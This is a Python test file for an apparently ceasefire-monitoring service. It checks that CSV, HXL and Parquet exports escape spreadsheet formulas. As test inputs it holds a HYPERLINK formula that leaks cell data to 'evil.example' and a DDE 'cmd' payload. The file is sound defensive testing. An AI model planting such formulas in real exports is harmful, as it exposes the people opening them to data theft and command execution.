"""Class 3 of the issue (formula injection in exports): a party's report titled
``=HYPERLINK(...)`` landed verbatim as a cell of ``/export/findings.csv`` and ``.hxl.csv``, which
analysts and the public open in spreadsheets; ``verify --format csv|hxl`` wrote the same rows.
``/export/findings.parquet`` (issue 14) holds the same text cells."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from api.apikit import Live, report
from store.storekit import SYRIA

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"open")'
RISKY = ("=", "+", "-", "@", "\t", "\r")
CEASEFIRE = Path(sys.executable).with_name("ceasefire")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _no_formula(text: str) -> None:
    risky = [c for c in _cells(text) if c.startswith(RISKY) and not _is_number(c)]
    assert not risky, f"cells a spreadsheet would run: {risky[:5]}"


@pytest.fixture(scope="module")
def evil_run(live: Live) -> Live:
    """A party's report with formulas in its text, verified and published by the analyst."""
    body = report(title=EVIL, description="@SUM(1+1)*cmd|' /C calc'!A0")
    with live.client("gov") as party:
        assert party.post("/reports", json=body).status_code == 201
    with live.client("analyst") as analyst:
        run = analyst.post("/runs")
        assert run.status_code == 201, run.text
        assert analyst.post(f"/runs/{run.json()['id']}/publish").status_code == 200
    return live


@pytest.mark.parametrize("path", ["/export/findings.csv", "/export/findings.hxl.csv"], ids=["csv", "hxl"])
def test_exports_carry_no_formula(evil_run: Live, path: str) -> None:
    with evil_run.client("analyst") as client:
        answer = client.get(evil_run.url + path)
    assert answer.status_code == 200
    text = answer.text
    assert any("HYPERLINK" in c for c in _cells(text)), "the report did not reach the export"
    _no_formula(text)
    assert "'" + EVIL in _cells(text) or any(c.startswith("'=HYPERLINK") for c in _cells(text))


def test_parquet_text_cells_carry_no_formula(evil_run: Live) -> None:
    """The Parquet export's text cells are the CSV's (spreadsheet tools import Parquet too)."""
    import pyarrow.parquet as pq

    with evil_run.client("analyst") as client:
        answer = client.get(evil_run.url + "/export/findings.parquet")
    assert answer.status_code == 200
    table = pq.read_table(io.BytesIO(answer.content))
    texts = [v for column in table.columns if column.type == "string" for v in column.to_pylist()]
    assert any("HYPERLINK" in v for v in texts), "the report did not reach the export"
    risky = [v for v in texts if v.startswith(RISKY) and not _is_number(v)]
    assert not risky, f"cells a spreadsheet would run: {risky[:5]}"


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_verify_writes_no_formula(tmp_path: Path, fmt: str) -> None:
    with (SYRIA / "incidents.csv").open(encoding="utf-8", newline="") as source:
        rows = list(csv.DictReader(source))
    for row in rows:
        row["notes"] = "=1+1 " + row["notes"]
        row["location"] = "@" + row["location"]
    events = tmp_path / "incidents.csv"
    with events.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    done = subprocess.run(
        [str(CEASEFIRE), "verify", str(SYRIA / "agreement.yaml"), str(events), "--format", fmt],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
        timeout=600,
    )
    assert done.returncode in (0, 1), done.stderr
    assert "'=1+1 " in done.stdout
    _no_formula(done.stdout)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e3", "-1e3"),
        (-3.5, -3.5),
        ("", ""),
        ("Kafr Hamra", "Kafr Hamra"),
        ("2016-09-14", "2016-09-14"),
    ],
    ids=lambda v: repr(v),
)
def test_spreadsheet_safe(value: object, safe: object) -> None:
    from ceasefire.exports import spreadsheet_safe

    assert spreadsheet_safe(value) == safe
